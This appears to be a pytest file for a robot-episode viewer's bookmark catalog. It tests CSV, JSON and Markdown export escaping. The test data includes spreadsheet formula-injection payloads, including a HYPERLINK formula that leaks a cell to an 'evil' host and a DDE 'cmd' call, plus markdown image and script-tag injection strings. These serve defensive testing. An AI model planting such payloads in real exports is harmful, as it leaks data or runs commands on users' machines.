"""Bookmarks in the catalog and their exports (JSON, CSV, Markdown), on the demo bundle and a
real LeRobot episode."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import numpy as np
import pytest

from robotrace_desktop.catalog.bookmark_export import (
    bookmark_rows,
    bug_report_markdown,
    escape_markdown,
    frame_index_at,
    to_csv,
    to_json,
    write_export,
)
from robotrace_desktop.catalog.bookmarks import (
    Bookmark,
    add_bookmark,
    delete_bookmark,
    get_bookmark,
    list_bookmarks,
    update_note,
)
from robotrace_desktop.catalog.store import Catalog
from robotrace_desktop.core.episode import EpisodeInfo
from robotrace_desktop.core.links import parse_link
from robotrace_desktop.errors import ValidationError
from robotrace_desktop.library.scanner import scan
from tests.demo_cache import demo_copy

MS = 1_000_000
HOSTILE = 'gripper, "early" | closed\n| x | y |\n# boom\n![img](http://evil/x.png) <script>'


@pytest.fixture(scope="module")
def demo_bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return demo_copy(tmp_path_factory.mktemp("demo") / "bundle")


@pytest.fixture
def demo_catalog(tmp_path: Path, demo_bundle: Path) -> tuple[Catalog, EpisodeInfo]:
    catalog = Catalog(tmp_path / "c.sqlite")
    summary = scan(catalog, [demo_bundle])
    assert summary.new == 1 and not summary.problems
    info = catalog.list_episodes()[0]
    yield catalog, catalog.get(info.id)
    catalog.close()


def test_crud_persists_across_reopen(tmp_path: Path, demo_bundle: Path) -> None:
    path = tmp_path / "c.sqlite"
    with Catalog(path) as catalog:
        scan(catalog, [demo_bundle])
        episode = catalog.list_episodes()[0].id
        late = add_bookmark(catalog, episode, 7_500 * MS, "GraspError")
        early = add_bookmark(catalog, episode, 3_900 * MS, "closes early", t_end_ns=5_600 * MS)
        third = add_bookmark(catalog, episode, 100 * MS)
        assert early.id != late.id and early.t_end_ns == 5_600 * MS and early.is_range
        assert third.note == "" and not third.is_range
        update_note(catalog, third.id, "start")
        assert delete_bookmark(catalog, late.id) is True
        assert delete_bookmark(catalog, late.id) is False
    # A second connection (another process would see the same) finds every committed change.
    raw = sqlite3.connect(path)
    assert raw.execute("SELECT count(*) FROM bookmarks").fetchone()[0] == 2
    raw.close()
    with Catalog(path) as catalog:
        marks = list_bookmarks(catalog, episode)
        assert [(m.t_ns, m.t_end_ns, m.note) for m in marks] == [
            (100 * MS, None, "start"),
            (3_900 * MS, 5_600 * MS, "closes early"),
        ]
        assert get_bookmark(catalog, early.id) == early
        assert list_bookmarks(catalog, "0000000000000000") == []


def test_validation_names_the_field(demo_catalog: tuple[Catalog, EpisodeInfo]) -> None:
    catalog, info = demo_catalog
    with pytest.raises(ValidationError, match="t_ns must be >= 0"):
        add_bookmark(catalog, info.id, -1)
    with pytest.raises(ValidationError, match="t_end_ns"):
        add_bookmark(catalog, info.id, 5 * MS, t_end_ns=5 * MS)
    with pytest.raises(ValidationError, match="t_ns must be an integer"):
        add_bookmark(catalog, info.id, 1.5)  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="episode_id 'nope' is not in the catalog"):
        add_bookmark(catalog, "nope", 0)
    with pytest.raises(ValidationError, match="bookmark_id 999 does not exist"):
        update_note(catalog, 999, "x")
    with pytest.raises(ValidationError, match="note must be text"):
        add_bookmark(catalog, info.id, 0, note=None)  # type: ignore[arg-type]
    assert list_bookmarks(catalog, info.id) == []  # nothing half-written
    numpy_time = add_bookmark(catalog, info.id, np.int64(12_840 * MS))
    assert numpy_time.t_ns == 12_840 * MS and type(numpy_time.t_ns) is int


def test_frame_index_rule_matches_the_video() -> None:
    times = np.array([20, 86, 153, 220], dtype=np.int64) * MS  # nominal 67 ms (median diff)
    assert frame_index_at(times, 19 * MS) is None
    assert frame_index_at(times, 20 * MS) == 0
    assert frame_index_at(times, 85 * MS) == 0
    assert frame_index_at(times, 86 * MS) == 1
    assert frame_index_at(times, 286 * MS) == 3
    assert frame_index_at(times, 287 * MS) is None  # past the last frame's interval
    assert frame_index_at(np.array([], dtype=np.int64), 0) is None


def _demo_frame_times(bundle: Path) -> dict[str, np.ndarray]:
    from robotrace_desktop.readers.bundle.reader import BundleReader

    with BundleReader().open(bundle) as episode:
        return {cam: episode.video(cam).frame_times_ns().copy() for cam in ("front", "wrist")}


def test_json_and_csv_exports_exactly(
    demo_catalog: tuple[Catalog, EpisodeInfo], demo_bundle: Path
) -> None:
    catalog, info = demo_catalog
    add_bookmark(catalog, info.id, 12_840 * MS, HOSTILE)
    add_bookmark(catalog, info.id, 3_900 * MS, "close cmd", t_end_ns=5_600 * MS)
    add_bookmark(catalog, info.id, 10 * MS, "before the wrist camera")
    marks = list_bookmarks(catalog, info.id)
    rows = bookmark_rows(info, marks, _demo_frame_times(demo_bundle))

    data = json.loads(to_json(rows))
    assert [r["t"] for r in data] == ["10ms", "3900ms", "12840ms"]
    first, middle, last = data
    assert list(middle) == [
        "bookmark_id",
        "episode_id",
        "episode_name",
        "path",
        "episode_index",
        "policy_version",
        "env_version",
        "git_sha",
        "seed",
        "robot",
        "source",
        "t_ns",
        "t",
        "t_end_ns",
        "t_end",
        "frame_index",
        "note",
        "link",
        "created_at",
    ]
    assert middle["episode_id"] == info.id and middle["path"] == str(demo_bundle.resolve())
    assert middle["episode_index"] is None
    assert (middle["policy_version"], middle["env_version"], middle["seed"]) == (
        "pick-v0.3.1",
        "tabletop-v2",
        7,
    )
    assert len(middle["git_sha"]) == 40 and middle["robot"] == "demo-arm-7dof"
    assert middle["source"] == "sim"
    assert (middle["t_ns"], middle["t_end_ns"], middle["t_end"]) == (
        3_900 * MS,
        5_600 * MS,
        "5600ms",
    )
    # 30 fps front: frame 117 starts at 3.9 s; 15 fps wrist from 20 ms: frame 58 (3.8867 s).
    assert middle["frame_index"] == {"front": 117, "wrist": 58}
    assert first["frame_index"] == {"front": 0, "wrist": None}  # before the wrist's first frame
    assert last["frame_index"] == {"front": None, "wrist": None}  # past both videos' ends
    assert middle["link"] == f"robotrace://episode/{info.id}?t=3900ms"
    assert parse_link(last["link"]).t_ns == 12_840 * MS
    assert last["note"] == HOSTILE

    parsed = list(csv.DictReader(io.StringIO(to_csv(rows), newline="")))
    assert list(parsed[0])[15:17] == ["frame[front]", "frame[wrist]"]
    assert [r["frame[front]"] for r in parsed] == ["0", "117", ""]
    assert [r["frame[wrist]"] for r in parsed] == ["", "58", ""]
    assert parsed[2]["note"] == HOSTILE  # comma, quotes, newline, pipe survive quoting
    assert parsed[1]["t"] == "3900ms" and parsed[1]["t_ns"] == "3900000000"
    assert parsed[0]["t_end_ns"] == "" and parsed[1]["t_end_ns"] == "5600000000"
    assert parsed[1]["link"] == middle["link"]
    assert parsed[1]["seed"] == "7" and parsed[1]["episode_index"] == ""


def test_csv_export_neutralises_spreadsheet_formulas(
    demo_catalog: tuple[Catalog, EpisodeInfo],
) -> None:
    catalog, info = demo_catalog
    notes = ['=HYPERLINK("http://evil/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "ok -1"]
    marks = [add_bookmark(catalog, info.id, (i + 1) * MS, note) for i, note in enumerate(notes)]
    parsed = list(csv.DictReader(io.StringIO(to_csv(bookmark_rows(info, marks, {})), newline="")))
    assert [r["note"] for r in parsed] == [*("'" + n for n in notes[:4]), "ok -1"]
    assert [r["t_ns"] for r in parsed] == [str((i + 1) * MS) for i in range(5)]  # numbers kept


def test_write_export_by_suffix(tmp_path: Path, demo_catalog: tuple[Catalog, EpisodeInfo]) -> None:
    catalog, info = demo_catalog
    rows = bookmark_rows(info, [add_bookmark(catalog, info.id, 5 * MS, "a,b")], {})
    assert json.loads(write_export(tmp_path / "b.json", rows).read_text())[0]["note"] == "a,b"
    text = write_export(tmp_path / "b.CSV", rows).read_text()
    assert text.splitlines()[0].endswith("note,link,created_at") and '"a,b"' in text
    with pytest.raises(ValidationError, match=r"b\.txt: export format must be \.json or \.csv"):
        write_export(tmp_path / "b.txt", rows)


def test_lerobot_episode_exports_its_index_and_missing_fields(
    tmp_path: Path, shared_data: Path
) -> None:
    dataset = shared_data / "lerobot" / "g1_pick_bottle_v21"
    with Catalog(tmp_path / "c.sqlite") as catalog:
        scan(catalog, [dataset])
        info = catalog.find(str(dataset.resolve()), 1)
        assert info is not None
        mark = add_bookmark(catalog, info.id, 2_000 * MS, "hand opens")
        times = {"observation.images.cam_high": np.arange(393, dtype=np.int64) * (10**9 // 30)}
        (row,) = bookmark_rows(info, [mark], times)
    assert row["episode_index"] == 1 and row["path"] == str(dataset.resolve())
    assert row["robot"] == "Unitree_G1_Inspire"
    assert [row[f] for f in ("policy_version", "env_version", "git_sha", "seed")] == [None] * 4
    assert row["frame_index"] == {"observation.images.cam_high": 60}
    markdown = bug_report_markdown(info, mark, None, row["frame_index"])
    assert "**Not reproducible: missing policy_version, env_version, git_sha, seed**" in markdown
    assert "| policy_version | — |" in markdown and "| seed | — |" in markdown
    assert "| episode_index | 1 |" in markdown
    assert "![frame]" not in markdown


def test_bug_report_markdown_escapes_hostile_text(
    tmp_path: Path, demo_catalog: tuple[Catalog, EpisodeInfo]
) -> None:
    catalog, info = demo_catalog
    info.name = "run | 7 **bold** [x](y)"
    mark = add_bookmark(catalog, info.id, 3_900 * MS, HOSTILE, t_end_ns=5_600 * MS)
    png = tmp_path / "bug reports" / "frame 1.png"
    text = bug_report_markdown(info, mark, png, {"front": 117, "wrist": None})
    lines = text.splitlines()
    assert lines[0] == r"### run \| 7 \*\*bold\*\* \[x\]\(y\) at 3.900s"
    assert f"Link: `robotrace://episode/{info.id}?t=3900ms`" in lines
    table = [line for line in lines if line.startswith("|")]
    assert all(line.count("|") - line.count(r"\|") == 3 for line in table)  # two cells each
    assert "| policy_version | pick\\-v0.3.1 |" in table
    assert "| seed | 7 |" in table
    assert any(line.startswith("| failure_reason | GraspError: object slipped") for line in table)
    assert "Not reproducible" not in text
    assert "**Time:** 3.900s (`3900ms`, t_ns = 3900000000) to 5.600s (`5600ms`)" in text
    assert "**Frames:** front #117, wrist —" in text
    quote = next(line for line in lines if line.startswith("> "))
    assert quote == (
        r'> gripper, "early" \| closed<br>\| x \| y \|<br>\# boom<br>'
        r"\!\[img\]\(http://evil/x.png\) \<script\>"
    )
    assert not any(line.startswith(("#", "|", "![")) for line in lines[1:] if "boom" in line)
    assert lines[-1] == f"![frame](<{png.as_posix()}>)"


def test_bug_report_at_a_plain_time(demo_catalog: tuple[Catalog, EpisodeInfo]) -> None:
    _, info = demo_catalog
    text = bug_report_markdown(info, 12_840 * MS, None, {})
    assert f"`robotrace://episode/{info.id}?t=12840ms`" in text
    assert "> " not in text and "**Frames:**" not in text


def test_escape_markdown_leaves_plain_text_alone() -> None:
    assert escape_markdown("gripper closes early at 3.9 s") == "gripper closes early at 3.9 s"
    assert escape_markdown("1. first\r\n2) second") == r"1\. first<br>2\) second"
    assert isinstance(Bookmark(1, "e", 0, None, "", 0.0).is_range, bool)
